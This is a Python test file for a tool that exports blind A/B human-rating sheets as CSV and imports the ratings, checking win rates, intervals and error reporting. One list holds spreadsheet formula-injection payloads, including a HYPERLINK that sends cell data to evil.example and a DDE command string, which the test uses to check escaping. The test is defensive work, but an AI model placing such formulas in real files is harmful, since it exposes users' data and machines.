"""Blind A/B human evaluation: export a rating sheet and key, import the filled sheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tuneline.errors import DataError
from tuneline.eval.human import COLUMNS, export_human, import_human


def _rows(n: int = 40, identical: int = 0) -> list[dict[str, str]]:
    rows = []
    for i in range(n + identical):
        same = i >= n
        rows.append({
            "id": f"test.csv:{i + 2}",
            "input": f"question number {i}, with a comma\nand a second line",
            "reference": f"answer {i}",
            "tuned": f"same {i}" if same else f"tuned answer {i}",
            "base": f"same {i}" if same else f"base answer {i}",
        })
    return rows


def _export(tmp_path: Path, rows: list[dict[str, str]], n: int | None = None, seed: int = 1) -> tuple[Path, Path, int]:
    out, key = tmp_path / "sheet.csv", tmp_path / "key.json"
    written = export_human(rows, candidate="tuned", other="base", out=out, key_out=key, n=n, seed=seed)
    return out, key, written


def _read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=COLUMNS)
        w.writeheader()
        w.writerows(rows)


def _fill(sheet: Path, key: Path, prefer_candidate: int, ties: int = 0, unrated: int = 0) -> None:
    """Rate the sheet as a person would: the candidate preferred on the first ``prefer_candidate``
    items, then ``ties`` ties, ``unrated`` left empty, the other system preferred on the rest."""
    items = json.loads(key.read_text())["items"]
    rows = _read(sheet)
    for k, row in enumerate(rows):
        side = "A" if items[row["item"]]["a"] == "tuned" else "B"
        other_side = "B" if side == "A" else "A"
        if k < prefer_candidate:
            row["preference"] = side if k % 2 else side.lower()
        elif k < prefer_candidate + ties:
            row["preference"] = "tie" if k % 2 else "="
        elif k < prefer_candidate + ties + unrated:
            row["preference"] = ""
        else:
            row["preference"] = other_side
    _write(sheet, rows)


def test_round_trip_gives_the_win_rate_and_an_interval_around_it(tmp_path: Path):
    sheet, key, written = _export(tmp_path, _rows(40))
    assert written == 40
    _fill(sheet, key, prefer_candidate=30)
    result = import_human(sheet, key)
    assert result["candidate"] == "tuned" and result["against"] == "base"
    assert (result["n"], result["unrated"], result["wins"], result["losses"], result["ties"]) == (40, 0, 30, 10, 0)
    assert result["win_rate"] == pytest.approx(0.75)
    assert result["low"] < 0.75 < result["high"]
    assert result["low"] > 0.55 and result["high"] < 0.9
    assert "bootstrap" in result["interval"]
    assert import_human(sheet, key) == result  # the interval is seeded


def test_ties_count_half_and_empty_preferences_are_unrated(tmp_path: Path):
    sheet, key, _ = _export(tmp_path, _rows(40))
    _fill(sheet, key, prefer_candidate=20, ties=10, unrated=4)
    result = import_human(sheet, key)
    assert (result["n"], result["unrated"], result["wins"], result["losses"], result["ties"]) == (36, 4, 20, 6, 10)
    assert result["win_rate"] == pytest.approx(25 / 36)
    assert result["low"] <= result["win_rate"] <= result["high"]


def test_nothing_rated(tmp_path: Path):
    sheet, key, _ = _export(tmp_path, _rows(5))
    result = import_human(sheet, key)
    assert (result["n"], result["unrated"], result["win_rate"], result["low"]) == (0, 5, None, None)


def test_sheet_is_blind_shuffled_and_mixes_sides(tmp_path: Path):
    sheet, key, _ = _export(tmp_path, _rows(40))
    text = sheet.read_text(encoding="utf-8")
    assert "tuned" not in text.replace("tuned answer", "") and "base" not in text.replace("base answer", "")
    rows = _read(sheet)
    assert tuple(rows[0]) == COLUMNS
    assert all(r["preference"] == "" and r["comment"] == "" for r in rows)
    items = json.loads(key.read_text())["items"]
    a_is_candidate = [items[r["item"]]["a"] == "tuned" for r in rows]
    assert 10 <= sum(a_is_candidate) <= 30  # mixed, not all on one side
    for r in rows:
        k = items[r["item"]]
        assert r[f"response_{'a' if k['a'] == 'tuned' else 'b'}"].startswith("tuned answer")
        assert r["input"].endswith("\nand a second line")  # multi-line inputs survive the CSV
    order = [int(items[r["item"]]["id"].split(":")[1]) for r in rows]
    assert order != sorted(order)  # shuffled
    assert sorted(order) == list(range(2, 42))


def test_identical_answers_are_skipped_and_n_samples(tmp_path: Path):
    _, key, written = _export(tmp_path, _rows(10, identical=3))
    meta = json.loads(key.read_text())
    assert written == 10 and meta["skipped_identical"] == 3 and len(meta["items"]) == 10
    _, key, written = _export(tmp_path, _rows(10, identical=3), n=4)
    assert written == 4 and len(json.loads(key.read_text())["items"]) == 4


def test_export_is_deterministic_for_a_seed(tmp_path: Path):
    a, _, _ = _export(tmp_path / "a", _rows(20), seed=3)
    b, _, _ = _export(tmp_path / "b", _rows(20), seed=3)
    c, _, _ = _export(tmp_path / "c", _rows(20), seed=4)
    assert a.read_text() == b.read_text() != c.read_text()


def test_bad_preference_is_reported_with_its_line(tmp_path: Path):
    sheet, key, _ = _export(tmp_path, _rows(6))
    _fill(sheet, key, prefer_candidate=6)
    rows = _read(sheet)
    rows[2]["preference"] = "maybe"
    _write(sheet, rows)
    with pytest.raises(DataError) as err:
        import_human(sheet, key)
    (problem,) = err.value.problems
    # header on line 1; each earlier row spans two lines (its input has a newline)
    assert problem.where == f"{sheet}:6"
    assert problem.field == "preference" and "'maybe'" in problem.message


def test_unknown_and_repeated_items_are_reported(tmp_path: Path):
    sheet, key, _ = _export(tmp_path, _rows(4))
    rows = _read(sheet)
    rows[1]["item"] = "99"
    rows.append(dict(rows[0]))
    for r in rows:
        r["input"] = "one line"
    _write(sheet, rows)
    with pytest.raises(DataError) as err:
        import_human(sheet, key)
    problems = err.value.problems
    assert [(p.where, p.field) for p in problems] == [(f"{sheet}:3", "item"), (f"{sheet}:6", "item")]
    assert "'99'" in problems[0].message and "again" in problems[1].message


def test_missing_columns_and_bad_key(tmp_path: Path):
    sheet, key, _ = _export(tmp_path, _rows(3))
    bad = tmp_path / "bad.csv"
    bad.write_text("item,choice\n1,A\n")
    with pytest.raises(DataError, match="preference"):
        import_human(bad, key)
    bad_key = tmp_path / "bad.json"
    bad_key.write_text('{"items": []}')
    with pytest.raises(DataError, match="not a key"):
        import_human(sheet, bad_key)


def test_export_rejects_rows_without_an_answer(tmp_path: Path):
    rows = _rows(3)
    del rows[1]["base"]
    with pytest.raises(DataError, match="row 1"):
        _export(tmp_path, rows)


HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "'=already quoted", "\uff1d1+1", "plain text", "", "a = b", "'plain"]


def test_cells_a_spreadsheet_would_run_are_escaped_and_read_back_unchanged(tmp_path: Path):
    rows = [{"id": f"r{i}", "input": text, "reference": text, "tuned": f"{text} (tuned)", "base": text}
            for i, text in enumerate(HOSTILE)]
    rows = [r for r in rows if r["tuned"].strip() != r["base"].strip()]
    sheet, key, written = _export(tmp_path, rows)
    assert written == len(rows)
    for rec in _read(sheet):  # what a spreadsheet sees: no cell starts like a formula
        for col in ("input", "reference", "response_a", "response_b"):
            assert rec[col][:1] not in ("=", "+", "-", "@", "\t", "\r", "\uff1d"), rec[col]
    from tuneline.eval.human import read_sheet

    items = json.loads(key.read_text())["items"]
    by_id = {r["id"]: r for r in rows}
    for rec in read_sheet(sheet):  # and reading the sheet gives every text back as it was
        row, sides = by_id[items[rec["item"]]["id"]], items[rec["item"]]
        assert rec["input"] == row["input"] and rec["reference"] == row["reference"]
        assert rec["response_a"] == row[sides["a"]] and rec["response_b"] == row[sides["b"]]
    # a rater's "=" (tie), typed as '= so the spreadsheet keeps it, still counts as a tie
    rated = _read(sheet)
    for rec in rated:
        rec["preference"] = "'="
    _write(sheet, rated)
    result = import_human(sheet, key)
    assert result["ties"] == len(rows) and result["win_rate"] == 0.5


def _last_evaluation(tmp_path: Path, thresholds: str):
    """A spec with ``thresholds`` and a saved (empty) last evaluation in workspace ``ws``."""
    from helpers import write_jsonl, write_spec

    from tuneline.eval.results import EvalSuite
    from tuneline.spec import load_spec
    from tuneline.workspace import EVAL_REPORT, Workspace

    write_jsonl(tmp_path / "train.jsonl", [{"text": "x", "label": "a"}])
    loaded = load_spec(write_spec(tmp_path, f"""
        name: t
        task: {{type: classification}}
        objective: {{primary: accuracy, thresholds: {thresholds}}}
        model: smollm2-135m
        data: {{train: {{path: train.jsonl}}}}
    """))
    ws = Workspace.at(tmp_path / "ws")
    suite = EvalSuite(spec="t", task="classification", primary="accuracy", created="now", sets=[])
    (ws.run_dir("t") / EVAL_REPORT).write_text(json.dumps(suite.to_dict()))
    return loaded, ws


def test_import_ratings_stores_the_win_rate_and_checks_the_gates_again(tmp_path: Path):
    from tuneline.eval.human import import_ratings, key_path, last_evaluation

    loaded, ws = _last_evaluation(tmp_path, '["human_win_rate >= 0.6"]')
    sheet = tmp_path / "ab.csv"
    rows = [{**r, "candidate": r["tuned"]} for r in _rows(12)]
    export_human(rows, candidate="candidate", other="base", out=sheet, key_out=key_path(ws, "t", sheet), n=None, seed=0)
    items = json.loads(key_path(ws, "t", sheet).read_text())["items"]
    rated = [{**r, "preference": "A" if items[r["item"]]["a"] == "candidate" else "B"} for r in _read(sheet)]
    _write(sheet, rated)

    done = import_ratings(loaded, ws, sheet)  # the key found in the run folder by the sheet's name
    assert done.result["win_rate"] == 1.0 and done.result["n"] == 12
    assert [(g.expr, g.passed) for g in done.gates] == [("human_win_rate >= 0.6", True)]
    assert done.logged_to is None  # no tracked run: nothing logged
    saved = last_evaluation(loaded, ws)
    assert saved.human is not None and saved.human["wins"] == 12 and saved.passed


def test_import_ratings_of_an_unrated_sheet_says_what_to_fill(tmp_path: Path):
    from tuneline.eval.human import import_ratings, key_path

    loaded, ws = _last_evaluation(tmp_path, '["accuracy >= 0.5"]')
    sheet = tmp_path / "ab.csv"
    rows = [{**r, "candidate": r["tuned"]} for r in _rows(3)]
    export_human(rows, candidate="candidate", other="base", out=sheet, key_out=key_path(ws, "t", sheet), n=None, seed=0)
    with pytest.raises(DataError) as err:
        import_ratings(loaded, ws, sheet)
    assert f"{sheet}: preference: no rated items (3 unrated)" in err.value.render()
    assert "fill the `preference` column with A, B or tie" in err.value.render()


def test_no_evaluation_yet_names_the_commands_that_make_one(tmp_path: Path):
    from tuneline.errors import TunelineError
    from tuneline.eval.human import last_evaluation
    from tuneline.workspace import Workspace

    loaded, _ = _last_evaluation(tmp_path, '["accuracy >= 0.5"]')
    with pytest.raises(TunelineError) as err:
        last_evaluation(loaded, Workspace.at(tmp_path / "empty"))
    assert "no evaluation of 't' yet" in err.value.render() and f"tuneline eval {loaded.path}" in err.value.render()
